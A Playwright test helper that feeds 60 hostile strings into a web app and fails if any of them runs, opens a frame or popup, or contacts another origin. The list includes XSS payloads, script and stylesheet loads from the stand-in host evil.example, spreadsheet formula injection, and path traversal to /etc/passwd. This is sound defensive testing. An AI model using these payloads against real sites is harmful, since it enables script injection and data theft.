// Texts that want to be more than text, and the watch that sees whether one of them was.

import type { Page } from '@playwright/test';
import { expect } from './fixtures';

const LONG = 'long-'.repeat(38);

/** 60 texts. Each calls hit() if anything runs it. */
export const PAYLOADS: readonly string[] = [
  // Markup that runs where text becomes HTML.
  '<script>hit()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=hit()>',
  '"><img src=x onerror=hit()>',
  "'><svg onload=hit()>",
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '<embed src="javascript:hit()">',
  '<details open ontoggle=hit()>x',
  '<video><source onerror=hit()></video>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/i)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button>go</button></form>',
  '<a href="javascript:hit()">click</a>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</script><script>hit()</script>',
  '<!--<img src="--><img src=x onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '%3Cscript%3Ehit()%3C/script%3E',
  // Attributes, addresses and scripts.
  '" onmouseover="hit()" x="',
  "' onfocus='hit()' autofocus='",
  'javascript:hit()',
  'JaVaScRiPt:hit()//',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  '//evil.example/path',
  'https://evil.example/?a=b&c=d#e',
  '`;hit();`',
  "';hit();//",
  '$' + '{hit()}',
  '{{constructor.constructor("hit()")()}}',
  '{{7*7}} #{7*7} <%= 7*7 %>',
  // Names that other programs take for something else.
  '=HYPERLINK("//evil.example/","x")',
  '+cmd|/C calc!A0',
  '@SUM(1+1)',
  '-2+3+cmd|x',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/api/v1/models/../../session',
  'a?b=c&run=r-1#top',
  '%00%2e%2e%2f',
  // Words and marks that programs stumble over.
  'null',
  'undefined',
  '__proto__',
  'constructor',
  '[object Object]',
  '\u202Egnp.exe\u202C',
  '\u0627\u0644\u0634\u0628\u0643\u0629 <b>\u05E8\u05E9\u05EA</b>',
  LONG,
];

/** Every nth of them in a run that is short, all of them in a long one. */
export function some(every: number): readonly string[] {
  return process.env.HONE_LONG ? PAYLOADS : PAYLOADS.filter((_, at) => at % every === 0);
}

export interface Watch {
  /** Nothing ran, nothing was asked for elsewhere, and no element came out of a text. */
  nothingRan: (where: string) => Promise<void>;
}

/** Begin before the first page is opened. */
export async function watch(page: Page, own: string): Promise<Watch> {
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => events.push(`popup ${popup.url()}`));
  page.on('download', (file) => events.push(`download ${file.suggestedFilename()}`));
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (!['data:', 'blob:'].includes(url.protocol) && url.origin !== own)
      events.push(`request ${request.url()}`);
  });
  page.on('frameattached', (frame) => {
    if (frame !== page.mainFrame()) events.push(`frame ${frame.url()}`);
  });
  await page.exposeFunction('honeSaw', (what: string) => events.push(what));
  await page.addInitScript(() => {
    const all = globalThis as unknown as { hit: () => void; honeSaw: (what: string) => void };
    all.hit = () => all.honeSaw('a text ran');
    addEventListener('securitypolicyviolation', (event) =>
      all.honeSaw(`policy ${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  const strange = () =>
    page.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((element) => {
        const names = element.getAttributeNames();
        const address = `${element.getAttribute('href') ?? ''}${element.getAttribute('src') ?? ''}`;
        const inline = element.tagName === 'SCRIPT' && element.textContent !== '';
        const wrong =
          inline ||
          names.some((name) => name.startsWith('on')) ||
          /^\s*(javascript|vbscript|data:text)/i.test(address) ||
          ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'VIDEO', 'MARQUEE'].includes(element.tagName);
        return wrong ? [element.outerHTML.slice(0, 200)] : [];
      }),
    );
  return {
    nothingRan: async (where) => {
      expect({ where, strange: await strange(), events }).toEqual({
        where,
        strange: [],
        events: [],
      });
    },
  };
}
